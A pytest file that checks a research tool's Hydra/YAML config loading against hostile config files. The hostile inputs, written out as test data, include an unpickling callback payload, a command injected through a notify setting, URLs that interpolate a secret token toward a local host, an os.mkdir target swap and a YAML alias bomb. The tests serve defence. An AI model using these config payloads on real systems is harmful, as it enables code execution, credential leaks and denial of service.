"""What a config file says, whoever wrote it, runs no code and reads no credential."""

import pickle
import stat
import sys
from pathlib import Path

import hydra
import pytest
import yaml
from hydra.core.global_hydra import GlobalHydra
from omegaconf import OmegaConf

from tiltmeter.jobs.app import main
from tiltmeter.jobs.composing import build
from tiltmeter.jobs.runtime.config import ConfigError
from tiltmeter.jobs.runtime.settings.hydra_limits import confine_hydra
from tiltmeter.storage.files.yaml_text import check_yaml

SECRET = "hunter2-Zq7xW"
STORE = f"store='s3://AKIAEXAMPLE:{SECRET}@bucket/store?region=us-east-1'"
NOWHERE = ["job=entity_resolution", "pairs=nowhere.csv"]

OURS = """
defaults: [corpus: theirs, _self_, override hydra/job_logging: none, override hydra/hydra_logging: none]
hydra: {run: {dir: .}}
"""
"""As much of our config as Hydra's own settings need."""


def main_file(text: str = "", *defaults: str) -> str:
    """One that a user has named, which takes in the corpus of others."""
    logging = ("override hydra/job_logging: none", "override hydra/hydra_logging: none")
    return f"defaults: [corpus: theirs, {', '.join(['_self_', *defaults, *logging])}]\n{text}\n"


THEIRS = "name: theirs\nlanguage: en\npath: x.txt\n"


@pytest.fixture
def confined(hydra_restored, monkeypatch):
    monkeypatch.setattr(sys, "argv", ["tiltmeter"])
    confine_hydra()


@pytest.fixture
def compose(confined, tmp_path):
    """Composes a config with the file of a corpus, and other files."""

    def composed(text: str, subdir: str = "output_subdir: null", **others: str):
        for name, content in {
            "tiltmeter": OURS.replace("{run", f"{{{subdir}, run"),
            "corpus/theirs": text,
            **others,
        }.items():
            path = tmp_path / "conf" / f"{name}.yaml"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content)
        with hydra.initialize_config_dir(str(tmp_path / "conf"), version_base="1.3"):
            if "mine" not in others:
                return hydra.compose("tiltmeter", return_hydra_config=True)
            return hydra.compose("mine", ["hydra.output_subdir=null"], return_hydra_config=True)

    return composed


@pytest.fixture(scope="module")
def composed():
    """Our config, with few words."""
    words = ["job=bootstrap", "wordset=[]", "wordset/gender=[english]"]
    with hydra.initialize_config_module("tiltmeter.conf", version_base="1.3"):
        return hydra.compose("tiltmeter", words, return_hydra_config=True)


@pytest.fixture
def command(confined, monkeypatch, tmp_path, capfd):
    """Runs the command in this process, to an end that must be bad; returns its status and all that it said."""
    monkeypatch.chdir(tmp_path)

    def run(*words: str):
        monkeypatch.setattr(sys, "argv", ["tiltmeter", *words])
        with pytest.raises(SystemExit) as ended:
            main()
        GlobalHydra.instance().clear()
        return ended.value.code, "".join(capfd.readouterr())

    return run


# --- code -----------------------------------------------------------------------------------------------------------


REFUSED = yaml.safe_load(Path(__file__).with_name("refused_configs.yaml").read_text())


@pytest.mark.long
@pytest.mark.parametrize("case", REFUSED)
def test_files_of_others_do_not_what_they_try(compose, tmp_path, trace, case):
    files = {name: text.replace("TRACE", str(trace)) for name, text in REFUSED[case].items()}
    says, main, chosen = (files.pop(name, None) for name in ("says", "main", "chosen"))
    if main or chosen:
        files["mine"] = main_file(main or "", *filter(None, [chosen]))
    with pytest.raises(ConfigError) as refusal:
        compose(files.pop("corpus/theirs", THEIRS), **files)
    assert str(refusal.value).replace(f"{tmp_path}/", "") == says


def test_hydra_keeps_no_config_of_its_own(compose):
    with pytest.raises(ConfigError, match=r"hydra\.output_subdir is 'kept': must be None"):
        compose(THEIRS, "output_subdir: kept")


def test_the_command_does_not_run_what_a_file_names(command, tmp_path, payload):
    (tmp_path / "payload").write_bytes(pickle.dumps(payload))
    (tmp_path / "conf/more").mkdir(parents=True)
    text = "hydra: {callbacks: {x: {_target_: gensim.utils.unpickle, fname: payload}}}"
    (tmp_path / "conf/more/theirs.yaml").write_text(f"# @package _global_\n{text}\n")
    status, said = command("--config-dir", "conf", *NOWHERE, "+more=theirs")
    assert status == 2
    assert "theirs.yaml: `# @package _global_`: a file of the group more sets more alone" in said
    assert "Traceback" not in said


@pytest.mark.parametrize("word", ["--experimental-rerun", "--exp"])
def test_the_command_reruns_no_pickle(command, tmp_path, payload, word):
    (tmp_path / "payload").write_bytes(pickle.dumps(payload))
    status, said = command(word, "payload")
    assert status == 2
    assert "--experimental-rerun: would load a pickle" in said


PARTS = ("job", "embedding", "embedding.trainer", "cluster", "corpus.enwiki_sample", "wordset.en")
KINDS = ("embedding.kind", "embedding.trainer.name", "cluster.kind", "embedding.device")


@pytest.mark.long
@pytest.mark.parametrize("key", [*(f"{part}._target_" for part in PARTS), *KINDS])
def test_a_class_that_a_setting_names_is_unknown_and_kinds_are_those_of_a_list(composed, key):
    changed = OmegaConf.create(OmegaConf.to_container(composed) | {"hydra": {}})
    OmegaConf.update(changed, key, "os.mkdir", force_add="_target_" in key)
    del changed["hydra"]
    with pytest.raises(ConfigError, match=r"os\.mkdir" + r": there is no such setting" * ("_target_" in key)):
        build(changed)


# --- commands that files of others have been tried with ---------------------------------------------------------------


def test_a_word_list_sets_no_command_that_a_night_runs(command, tmp_path):
    (tmp_path / "evil/wordset").mkdir(parents=True)
    (tmp_path / "evil/wordset/glob.yaml").write_text(
        f"# @package _global_\nnotify:\n  command: touch {tmp_path}/made\n"
    )
    (tmp_path / "night.yaml").write_text("a: job=prune")
    status, said = command("--config-dir", "evil", "job=overnight", "+wordset=glob", "jobs=night.yaml")
    assert (status, "the group wordset sets wordset alone" in said) == (2, True), said
    assert not (tmp_path / "made").exists()
    assert not (tmp_path / "store").exists()


CORPUS = """
# @package corpus.leaky
name: leaky
language: en
path: "http://127.0.0.1:1/${oc.env:TILTMETER_WEBHOOK_TOKEN}/a.txt"
format: text
"""
WORDS = """
# @package wordset.en
language: en
associations: {trees: {source: "${oc.env:TILTMETER_WEBHOOK_TOKEN}"}}
"""


@pytest.mark.long
@pytest.mark.parametrize(
    ("file", "text", "words"),
    [
        ("corpus/leaky", CORPUS, ["job=bootstrap", "corpus=leaky"]),
        ("wordset/tok", WORDS, ["job=association", "embedding=file", "embedding.path=v.txt", "wordset=[tok]"]),
    ],
)
def test_a_token_goes_nowhere(command, monkeypatch, tmp_path, file, text, words):
    monkeypatch.setenv("TILTMETER_WEBHOOK_TOKEN", SECRET)
    path = tmp_path / f"evil/{file}.yaml"
    path.parent.mkdir(parents=True)
    path.write_text(text.lstrip())
    for more in ([], ["--cfg", "job", "--resolve"], ["--multirun"]):
        status, said = command("--config-dir", "evil", *words, *more)
        assert (status, "takes a value from elsewhere" in said, SECRET in said) == (2, True, False), said
    status, said = command(*NOWHERE, "series=${oc.env:TILTMETER_WEBHOOK_TOKEN}")
    assert (status, "none of a webhook, token" in said, SECRET in said) == (2, True, False), said
    assert [path.name for path in tmp_path.iterdir()] == ["evil"]


# --- credentials ----------------------------------------------------------------------------------------------------


CREDENTIALS = [
    f"TILTMETER_MY_{word}S" for word in ("NOTIFY", "WEBHOOK", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL", "KEY")
]
OTHERS = ["HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "PATH", "MY_TILTMETER_DATA", "TILTMETER_"]


@pytest.mark.long
@pytest.mark.parametrize("name", [*OTHERS, *CREDENTIALS])
def test_not_even_the_main_file_reads_a_variable_of_others_or_a_credential_of_ours(compose, monkeypatch, name):
    monkeypatch.setenv(name, SECRET)
    composed = compose(THEIRS, mine=main_file(f"corpus: {{path: '${{oc.env:{name}}}/x.txt'}}")).corpus
    message = rf"\$\{{oc\.env:{name}\}}: a config reads variables called TILTMETER_"
    with pytest.raises(ConfigError, match=message) as refusal:
        build(OmegaConf.create({"corpus": composed}))
    assert SECRET not in str(refusal.value)


def test_the_main_file_reads_those_of_this_program(compose, monkeypatch):
    monkeypatch.setenv("TILTMETER_DATA", "/data")
    path = "${oc.env:TILTMETER_DATA}/${oc.env:TILTMETER_NO,x}.txt"
    assert compose(THEIRS, mine=main_file(f"corpus: {{path: '{path}'}}")).corpus.path == "/data/x.txt"


def test_but_for_what_stands_beside_it(compose):
    corpus = compose("name: ${.language}wiki\nlanguage: en\npath: \\${x}\n").corpus
    assert (corpus.name, corpus.path) == ("enwiki", "${x}")


def test_a_preset_sets_what_jobs_ask_and_a_cluster_its_own(compose):
    files = {"preset/theirs": "# @package _global_\nseed: 3\njob: {level: 0.9}", "cluster/theirs": "num_cpus: 2"}
    main = main_file("store: here", "preset: theirs", "cluster: theirs")
    composed = compose(THEIRS, mine=main, **files)
    assert (composed.seed, composed.job.level, composed.cluster.num_cpus, composed.store) == (3, 0.9, 2, "here")


DEEP = "[" * 1000 + "]" * 1000
BOMB = "a0: &a0 [x, x, x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 8))


@pytest.mark.long
@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (f"words: {DEEP}", r"line 1, column 57: is nested more than 50 levels deep"),
        ("words: &a [x, *a]", r"line 1, column 15: \*a stands within itself"),
        ("words: &a {x: [*a]}", r"line 1, column 16: \*a stands within itself"),
        (BOMB, r"line 6, column 10: its aliases, such as \*a4, stand for more than 100,000 values"),
    ],
)
def test_no_file_is_deeper_or_larger_than_people_write(compose, text, problem):
    for files in ({"corpus/theirs": text}, {"mine": f"{text}\n"}):
        with pytest.raises(ConfigError, match=rf"(theirs|mine)\.yaml: {problem}; correct it there, or leave"):
            compose(files.pop("corpus/theirs", THEIRS), **files)


def test_aliases_are_counted_by_what_they_stand_for():
    with pytest.raises(yaml.MarkedYAMLError, match="stand for more than 100,000 values"):
        check_yaml(BOMB)
    check_yaml("\n".join(BOMB.splitlines()[:5]))


def test_what_hydra_keeps_of_a_sweep_is_private(confined, composed):
    """It holds the keys of the store."""
    folder = Path(composed.hydra.sweep.dir)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


@pytest.mark.long
@pytest.mark.parametrize(
    ("words", "status", "message"),
    [
        ([STORE, *NOWHERE], 2, "there is no file"),
        (["--multirun", "seed=0,1", STORE, *NOWHERE], 2, "there is no file"),
        (["--multirun", "seed=0,1", "run_dir=run", *NOWHERE], 2, "run_dir=run: the runs of a sweep cannot share it"),
        (
            [*NOWHERE, f"run_dir=s3://AKIAEXAMPLE:{SECRET}@bucket/run"],
            2,
            "run_dir=s3://bucket/run: must be a local path",
        ),
        ([*NOWHERE, STORE.replace("'", "")], 2, "mismatched input"),
        ([NOWHERE[0], f"pairs=['https://me:{SECRET}@example.org/x',5]"], 2, "https://example.org/x"),
        ([NOWHERE[0], f"pairs='http://me:{SECRET}@127.0.0.1:1/x?token={SECRET}'"], 2, "http://127.0.0.1:1/x"),
        ([NOWHERE[0], f"pairs='http://me:{SECRET}@[::1/x'"], 2, "cannot be reached"),
    ],
    ids=["store", "sweep", "shared", "refused", "unquoted", "list", "server", "host"],
)
def test_no_message_tells_a_credential(command, tmp_path, words, status, message):
    ended, said = command(*words)
    assert (ended, message in said) == (status, True), said
    assert SECRET not in said
    assert not [path for path in tmp_path.rglob("*") if path.is_file() and SECRET in path.read_text()]


def test_the_config_is_shown_without_credentials(confined, monkeypatch, capfd):
    monkeypatch.setattr(sys, "argv", ["tiltmeter", "--cfg", "job", *NOWHERE, STORE])
    main()
    GlobalHydra.instance().clear()
    said, _ = capfd.readouterr()
    assert "store: s3://bucket/store\n" in said
    assert SECRET not in said
